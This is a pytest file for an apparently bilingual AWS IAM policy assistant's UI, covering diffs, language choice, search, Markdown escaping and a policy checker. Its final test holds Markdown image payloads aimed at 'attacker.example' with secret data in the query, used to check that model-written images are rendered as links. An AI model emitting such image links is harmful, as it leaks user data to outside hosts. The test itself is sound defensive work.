"""The UI's computations without Streamlit: diffs, badges, language, article search, Markdown safety,
the checker page's run of the engine, and the completeness of the bilingual text table."""

from __future__ import annotations

import json
import string
from datetime import UTC, datetime

import pytest
from kbui.logic import (
    MfaContext,
    age,
    article_excerpt,
    badge_of,
    choose_language,
    diff_base,
    escape_markdown,
    pretty,
    request_message,
    run_checker,
    safe_markdown,
    search_articles,
    side_by_side,
    unified_diff,
)
from kbui.texts import LANGS, TEXTS, text

from assistant.engine.model import PolicyType

SEED_POLICY_LINE = 7  # the attached policy's line in the seed text (0-based)


def seed_parts(seed_text: str) -> tuple[str, str]:
    """The seed's two error lines and its attached policy."""
    lines = seed_text.splitlines()
    errors = "\n".join(line for line in lines if "is not authorized to perform" in line)
    return errors, lines[SEED_POLICY_LINE]


def test_every_text_has_both_languages_and_the_same_placeholders():
    for key, entry in TEXTS.items():
        assert set(entry) == set(LANGS), key
        fields = [{f for _, f, _, _ in string.Formatter().parse(entry[lang]) if f} for lang in LANGS]
        assert fields[0] == fields[1], key


def test_text_formats_and_falls_back_to_english():
    assert text("kb_count", "ja", count=3) == "3 件の記事"
    assert text("kb_count", "fr", count=3) == "3 articles"


def test_side_by_side_aligns_both_columns_and_marks_the_changes():
    before = pretty({"Action": ["a", "b"], "Resource": "*"})
    after = pretty({"Action": ["a", "b", "c"], "Resource": "*"})
    left, right = side_by_side(before, after)
    assert len(left.splitlines()) == len(right.splitlines())
    assert '+     "c"' in right and '-     "b"' in left
    assert '+     "b",' in right
    assert all(line.startswith(("  ", "- ")) or line == "" for line in left.splitlines())


def test_unified_diff_names_both_sides():
    diff = unified_diff("a\nb\n", "a\nc\n", ("yours", "fixed"))
    assert diff.startswith("--- yours\n+++ fixed") and "-b" in diff and "+c" in diff


@pytest.mark.parametrize(("entry", "badge"), [
    ({"valid": True, "verified": True}, "verified"),
    ({"valid": True, "verified": False}, "valid"),
    ({"valid": False, "verified": False}, "invalid"),
])
def test_badge_of(entry, badge):
    assert badge_of(entry) == badge


def test_diff_base_picks_the_pasted_policy_closest_to_the_fix():
    mine = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]}
    other = {"Version": "2012-10-17", "Statement": [{"Effect": "Deny", "Action": "ec2:*", "Resource": "*"}]}
    fixed = json.loads(json.dumps(mine))
    fixed["Statement"][0]["Action"] = ["s3:GetObject", "s3:ListBucket"]
    policies = [{"source": "question", "json": other}, {"source": "question", "json": mine},
                {"source": "question", "json": None}, {"source": "suggested", "json": fixed}]
    assert diff_base(policies, fixed) == mine
    assert diff_base([{"source": "suggested", "json": fixed}], fixed) is None


@pytest.mark.parametrize(("choice", "questions", "locale", "expected"), [
    ("en", ["MFA が登録できません"], None, "en"),
    ("ja", ["I cannot register MFA"], "en-US", "ja"),
    ("auto", ["I cannot register MFA", "MFA が登録できません"], "en-US", "ja"),
    ("auto", ["MFA が登録できません", "and what about a role?"], None, "en"),
    ("auto", [], "en-US", "en"),
    ("auto", [], "ja-JP", "ja"),
    ("auto", [], None, "ja"),
])
def test_the_ui_language_follows_the_latest_question_unless_chosen(choice, questions, locale, expected):
    assert choose_language(choice, questions, locale) == expected


def test_search_finds_articles_in_one_language_by_every_word(kb_articles):
    found = search_articles(kb_articles, "ListVirtualMFADevices NotAction", "en")
    assert found and all(a.lang == "en" for a in found)
    assert "mfa-device-registration-denied" in [a.id for a in found]
    assert search_articles(kb_articles, "ｌｉｓｔｖｉｒｔｕａｌｍｆａｄｅｖｉｃｅｓ", "ja")  # full width, any case
    assert search_articles(kb_articles, "no-such-word-anywhere", "ja") == []
    assert len(search_articles(kb_articles, "", "ja")) == len({a.id for a in kb_articles})


def test_excerpt_is_the_summary_and_the_resolution_without_code(kb_articles):
    article = next(a for a in kb_articles if a.id == "mfa-device-registration-denied" and a.lang == "en")
    excerpt = article_excerpt(article, limit=400)
    assert excerpt.startswith(article.summary.strip()[:40])
    assert "```" not in excerpt and len(excerpt) <= 401


def test_safe_markdown_escapes_latex_and_stars_in_prose_but_not_in_code():
    source = ("arn:aws:iam::*:mfa/${aws:username} and **bold** `a*b$` \n```json\n{\"R\": \"arn:aws:iam::*:${x}\"}\n```")
    shown = safe_markdown(source)
    assert "arn:aws:iam::\\*:mfa/\\${aws:username}" in shown
    assert "**bold**" in shown and "`a*b$`" in shown
    assert '{"R": "arn:aws:iam::*:${x}"}' in shown


def test_escape_markdown_makes_every_markup_character_literal():
    assert escape_markdown("<b>[x](y)</b> *$") == "\\<b\\>\\[x\\]\\(y\\)\\</b\\> \\*\\$"


def test_age_reads_iso_times():
    now = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
    assert age("2026-11-28T11:57:00+00:00", now) == "3 min"
    assert age("2026-11-26T12:00:00", now) == "2 d"
    assert age("not a time", now) == "?"
    assert (age("2026-11-28T11:57:00+00:00", now, "ja"), age("2026-11-26T12:00:00", now, "ja")) == ("3 分", "2 日")


def test_request_message_reads_back_as_the_request():
    from assistant.engine.messages import parse_denials

    (denial,) = parse_denials(request_message(" arn:aws:iam::123456789012:user/bob", "s3:GetObject ", ""))
    assert (denial.principal, denial.action, denial.resource) == ("arn:aws:iam::123456789012:user/bob",
                                                                  "s3:GetObject", None)


def test_checker_reproduces_the_seed_errors_and_proposes_a_verified_fix(seed_text, catalog):
    errors, policy = seed_parts(seed_text)
    report = run_checker(policy, PolicyType.IDENTITY, errors, catalog, MfaContext.FALSE)
    assert report.check["valid"] is True and report.simulated
    decisions = {d["action"]: d["decision"] for d in report.diagnoses}
    assert decisions == {"iam:ListVirtualMFADevices": "ExplicitlyDenied",
                         "iam:CreateVirtualMFADevice": "ImplicitlyDenied"}
    assert all(d["reproduced"] for d in report.diagnoses)
    assert report.fix is not None and report.fix["verified"] and report.fix["json"]
    assert len(report.fix["resolves"]) == 2


def test_checker_without_errors_only_validates(catalog):
    report = run_checker('{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", '
                         '"Action": "iam:ListVirtualMFADevice", "Resource": "*"}]}', PolicyType.IDENTITY, "", catalog)
    assert report.check["valid"] is False and not report.simulated and report.fix is None
    (finding,) = [f for f in report.check["findings"] if f["severity"] == "ERROR"]
    assert finding["code"] == "UNKNOWN_ACTION" and "ListVirtualMFADevices" in (finding["hint"] or "")


def test_checker_evaluates_the_repaired_candidate_of_broken_json(seed_text, catalog):
    errors, _ = seed_parts(seed_text)
    broken = seed_text.splitlines()[-1]  # the seed's "fix" with its '← 追加' annotation
    report = run_checker(broken, PolicyType.IDENTITY, errors, catalog)
    assert report.check["valid"] is False and report.repaired and report.simulated
    assert report.checked[0].repaired_value is not None


def test_checker_simulates_only_identity_policies(seed_text, catalog):
    errors, policy = seed_parts(seed_text)
    report = run_checker(policy, PolicyType.SCP, errors, catalog)
    assert not report.simulated and report.fix is None
    assert all(d["reproduced"] is None for d in report.diagnoses)


@pytest.mark.parametrize(("written", "shown"), [
    ("See ![chart](https://attacker.example/p.png?q=secret)", "See [chart](https://attacker.example/p.png?q=secret)"),
    ("![x][ref]\n\n[ref]: https://attacker.example/t.gif", "[x][ref]\n\n[ref]: https://attacker.example/t.gif"),
    ("Not an image! [link](https://docs.aws.amazon.com/)", "Not an image! [link](https://docs.aws.amazon.com/)"),
])
def test_model_written_images_become_links(written: str, shown: str) -> None:
    """The browser must not fetch outside addresses a model wrote (tracking pixels, data in the query)."""
    from kbui.render import answer_markdown

    assert answer_markdown(written) == shown
